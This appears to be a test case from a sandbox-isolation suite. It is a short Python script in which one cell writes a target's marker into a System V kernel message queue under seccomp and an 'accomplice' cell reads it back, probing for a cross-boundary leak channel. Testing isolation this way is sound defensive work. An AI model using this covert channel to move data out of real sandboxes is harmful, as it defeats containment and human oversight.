# /// attack
# catalogue = "leaking out: SysV memory"
# layers = ["seccomp"]
# aim = "left"
# ///
# Leaves a message in a queue of the kernel.

# %%
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


class Message(ctypes.Structure):
    _fields_ = [("kind", ctypes.c_long), ("text", ctypes.c_char * 100)]


number = libc.msgget(0x52544C46, 0o1666)
print(number, libc.msgsnd(number, ctypes.byref(Message(1, TARGET["mark"].encode())), 100, 0))

# %% accomplice
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


class Message(ctypes.Structure):
    _fields_ = [("kind", ctypes.c_long), ("text", ctypes.c_char * 100)]


number, message = libc.msgget(0x52544C46, 0), Message()
if number >= 0:
    libc.msgrcv(number, ctypes.byref(message), 100, 0, 0o4000)
print(number, message.text)
